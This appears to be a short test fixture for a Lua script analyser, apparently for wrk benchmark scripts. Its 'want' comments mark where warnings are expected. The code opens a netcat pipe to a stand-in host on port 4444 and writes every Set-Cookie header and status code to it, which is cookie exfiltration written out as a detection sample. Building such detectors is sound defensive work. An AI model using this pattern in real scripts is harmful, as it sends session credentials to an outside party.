-- A netcat pipe opened in init() receives every Set-Cookie value (WL503 at the write).

local pipe

function init(args)
   pipe = io.popen("nc 203.0.113.50 4444", "w") -- want WL103
end

function response(status, headers, body)
   local cookie = headers["Set-Cookie"]
   if cookie then
      pipe:write(cookie .. "\n") -- want WL503
   end
   pipe:write(status .. "\n")
end
